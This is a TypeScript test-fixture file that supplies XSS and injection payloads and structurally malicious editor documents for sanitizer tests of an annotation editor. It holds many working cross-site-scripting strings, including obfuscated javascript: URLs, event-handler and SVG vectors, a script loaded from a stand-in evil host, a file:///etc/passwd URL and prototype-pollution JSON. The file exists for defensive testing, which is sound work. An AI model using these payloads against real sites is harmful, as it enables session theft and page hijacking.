/**
 * Injection payloads for the annotation-body tests (render.test.ts) and the data-layer tests of
 * every write path. Each string is tried as text, as a link href, as attribute values and keys,
 * as node and mark types, and as a raw body instead of JSON. Add new ones at the end of the
 * matching group; `EVIL_BODIES` holds whole documents that are dangerous by structure.
 *
 * Sources: OWASP XSS filter evasion cheat sheet, PortSwigger XSS cheat sheet, tiptap and
 * ProseMirror security advisories, and prototype-pollution write-ups.
 */
export const XSS_PAYLOADS: readonly string[] = [
  // Script tags
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '"><script>alert(document.cookie)</script>',
  '<script/xss src="data:,alert(1)"></script>',
  '<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>',
  '\ufeff<script>alert(1)</script>',
  // Event handlers
  '<img src=x onerror=alert(1)>',
  '<img src="x" onerror="alert(1)">',
  '<IMG SRC=# onmouseover="alert(1)">',
  '<body onload=alert(1)>',
  '<div onmouseover="alert(1)">hover</div>',
  '<details open ontoggle=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<video><source onerror="alert(1)"></video>',
  '<marquee onstart=alert(1)>',
  '<a href="https://ok.example" onclick="alert(1)">ok</a>',
  // SVG and MathML
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<math href="javascript:alert(1)">click</math>',
  // javascript:, data:, vbscript: URLs with obfuscation
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  ' javascript:alert(1)',
  'java\tscript:alert(1)',
  'java\nscript:alert(1)',
  'java\u0000script:alert(1)',
  '\u0001javascript:alert(1)',
  '&#106;avascript:alert(1)',
  'javascript&#58;alert(1)',
  'javascript&colon;alert(1)',
  '&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)',
  '\\u006aavascript:alert(1)',
  'ｊａｖａｓｃｒｉｐｔ:alert(1)',
  'javascript://%0aalert(1)',
  'javascript:/*--></title></style></textarea></script><svg/onload=alert(1)//>',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'DATA:text/html,<script>alert(1)</script>',
  'data:image/svg+xml,<svg onload=alert(1)>',
  'vbscript:msgbox(1)',
  'VBScript:MsgBox("x")',
  'file:///etc/passwd',
  // Scheme tricks that look like http
  '//evil.example/path',
  '\\\\evil.example\\share',
  '/\\evil.example',
  'https:evil.example',
  'http://user:pass@evil.example/',
  'https://example.com@evil.example/',
  'https://example.com/"><script>alert(1)</script>',
  "https://example.com/' onmouseover='alert(1)",
  'mailto:a@example.com?body=<script>alert(1)</script>"',
  'https://evil.example/\u202egnp.exe',
  'https://evil\u200b.example/',
  'http://[::1]:80@evil.example',
  // Styles and embedded documents
  '<div style="background:url(javascript:alert(1))">x</div>',
  '<p style="width:expression(alert(1))">x</p>',
  "<style>@import 'javascript:alert(1)';</style>",
  '<link rel=stylesheet href=javascript:alert(1)>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="data:text/html,<script>alert(1)</script>">',
  '<form action="javascript:alert(1)"><button>x</button></form>',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<base href="javascript:alert(1)//">',
  '<template><img src=x onerror=alert(1)></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  // Template injection
  "{{constructor.constructor('alert(1)')()}}",
  '${alert(1)}',
  '<%= 7*7 %>',
  '{{7*7}}',
  '#{7*7}',
  // Breaking out of attributes and elements
  '" onmouseover="alert(1)',
  "' onfocus='alert(1)' autofocus='",
  '"><img src=x onerror=alert(1)>',
  '` onerror=alert(1) `',
  '" autofocus onfocus=alert(1) x="',
  '</mark><script>alert(1)</script><mark>',
  '</p></li></ul><script>alert(1)</script>',
  '<!--<img src=x onerror=alert(1)>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<a href="&#x6A;avascript:alert(1)">x</a>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  // Null bytes, controls, direction overrides
  '<scr\u0000ipt>alert(1)</scr\u0000ipt>',
  '\u0000\u0001\u0002\u001b[31mred',
  '\u202egnp.exe',
  '\u2066evil\u2069 \u200f',
  'lone surrogate \ud800 here',
  // Huge nesting
  '<div>'.repeat(500),
  '['.repeat(1000),
  '{"type":"doc","content":'.repeat(200),
  // JSON with prototype-pollution keys (as the raw body)
  '{"__proto__":{"polluted":"yes"}}',
  '{"type":"doc","__proto__":{"polluted":"yes"},"content":[{"type":"paragraph","content":[{"type":"text","text":"x"}]}]}',
  '{"type":"doc","content":[{"type":"paragraph","constructor":{"prototype":{"polluted":"yes"}},"content":[{"type":"text","text":"x","marks":[{"type":"bold","__proto__":{"polluted":"yes"}}]}]}]}',
  // Harmless-looking text that must stay text
  '𠮷😀<b>bold</b> 中文 & "quotes"',
];

/** A whole body that is dangerous by structure, with what parseAnnotationBody must do with it. */
export interface EvilBody {
  description: string;
  body: unknown;
  /** true: accepted after dropping attributes; false: rejected. */
  accepted: boolean;
}

const text = (t: string, marks?: unknown[]) => (marks ? { type: 'text', text: t, marks } : { type: 'text', text: t });
const doc = (...content: unknown[]) => ({ type: 'doc', content });
const para = (...content: unknown[]) => ({ type: 'paragraph', content });

function nested(depth: number): unknown {
  let node: unknown = para(text('deep'));
  for (let i = 0; i < depth; i++) node = { type: 'blockquote', content: [node] };
  return doc(node);
}

function cyclic(): unknown {
  const node: Record<string, unknown> = { type: 'doc' };
  node.content = [node];
  return node;
}

/** Bodies that are dangerous by structure rather than by a string. */
export const EVIL_BODIES: readonly EvilBody[] = [
  { description: 'iframe node', body: doc({ type: 'iframe', attrs: { src: 'javascript:alert(1)' } }), accepted: false },
  { description: 'script node', body: doc({ type: 'script', content: [text('alert(1)')] }), accepted: false },
  { description: 'image node with onerror', body: doc(para({ type: 'image', attrs: { src: 'x', onerror: 'alert(1)' } })), accepted: false },
  { description: 'disabled heading node', body: doc({ type: 'heading', attrs: { level: 1 }, content: [text('h')] }), accepted: false },
  { description: 'disabled codeBlock node', body: doc({ type: 'codeBlock', content: [text('x')] }), accepted: false },
  { description: 'disabled horizontalRule node', body: doc({ type: 'horizontalRule' }), accepted: false },
  { description: 'underline mark (disabled)', body: doc(para(text('u', [{ type: 'underline' }]))), accepted: false },
  { description: 'textStyle mark with style', body: doc(para(text('s', [{ type: 'textStyle', attrs: { style: 'background:url(javascript:alert(1))' } }]))), accepted: false },
  { description: 'link with javascript: href', body: doc(para(text('x', [{ type: 'link', attrs: { href: 'javascript:alert(1)' } }]))), accepted: false },
  { description: 'link without href', body: doc(para(text('x', [{ type: 'link', attrs: { target: '_blank' } }]))), accepted: false },
  {
    description: 'link with evil extra attributes',
    body: doc(para(text('x', [{ type: 'link', attrs: { href: 'https://example.com', onclick: 'alert(1)', target: '_top', rel: 'opener', class: '"><script>', style: 'x', title: '" onmouseover="alert(1)' } }]))),
    accepted: true,
  },
  { description: 'bold with attributes', body: doc(para(text('b', [{ type: 'bold', attrs: { onclick: 'alert(1)' } }]))), accepted: true },
  { description: 'duplicate marks', body: doc(para(text('b', [{ type: 'bold' }, { type: 'bold' }]))), accepted: false },
  { description: 'paragraph with evil attributes', body: doc({ type: 'paragraph', attrs: { class: 'x', style: 'color:red', onclick: 'alert(1)' }, content: [text('p')] }), accepted: true },
  { description: 'orderedList start that breaks the attribute', body: doc({ type: 'orderedList', attrs: { start: '1" onmouseover="alert(1)' }, content: [{ type: 'listItem', content: [para(text('a'))] }] }), accepted: false },
  { description: 'orderedList start not finite', body: doc({ type: 'orderedList', attrs: { start: 1e308 }, content: [{ type: 'listItem', content: [para(text('a'))] }] }), accepted: false },
  { description: 'orderedList type attribute', body: doc({ type: 'orderedList', attrs: { start: 2, type: 'a" onclick="alert(1)' }, content: [{ type: 'listItem', content: [para(text('a'))] }] }), accepted: true },
  { description: 'marks on a paragraph', body: doc({ type: 'paragraph', marks: [{ type: 'bold' }], content: [text('p')] }), accepted: false },
  { description: 'text with content', body: doc(para({ type: 'text', text: 'x', content: [text('y')] })), accepted: false },
  { description: 'text without text', body: doc(para({ type: 'text' })), accepted: false },
  { description: 'text directly in the doc', body: doc(text('x')), accepted: false },
  { description: 'paragraph directly in a list', body: doc({ type: 'bulletList', content: [para(text('x'))] }), accepted: false },
  { description: 'list item starting with a list', body: doc({ type: 'bulletList', content: [{ type: 'listItem', content: [{ type: 'bulletList', content: [] }] }] }), accepted: false },
  { description: 'content not an array', body: { type: 'doc', content: { 0: para(text('x')), length: 1 } }, accepted: false },
  { description: 'top node not a doc', body: para(text('x')), accepted: false },
  { description: 'nested 100 blockquotes deep', body: nested(100), accepted: false },
  { description: 'nested 9 blockquotes deep, text at depth 12 (allowed)', body: nested(9), accepted: true },
  { description: 'nested 10 blockquotes deep, text at depth 13', body: nested(10), accepted: false },
  { description: 'text over 10 000 characters', body: doc(para(text('字'.repeat(10_001)))), accepted: false },
  { description: 'JSON over 20 000 bytes', body: doc(...Array.from({ length: 2000 }, () => para(text('x')))), accepted: false },
  { description: 'cyclic object', body: cyclic(), accepted: false },
  { description: 'array instead of a doc', body: [doc(para(text('x')))], accepted: false },
  { description: 'null', body: null, accepted: false },
  { description: 'number', body: 42, accepted: false },
  { description: 'Date object', body: new Date(0), accepted: false },
  { description: 'object with a prototype', body: Object.assign(Object.create({ type: 'doc' }) as object, { content: [para(text('x'))] }), accepted: false },
  { description: '__proto__ own key from JSON.parse', body: JSON.parse('{"type":"doc","content":[{"type":"paragraph","content":[{"type":"text","text":"x"}]}],"__proto__":{"polluted":"yes"}}') as unknown, accepted: true },
];
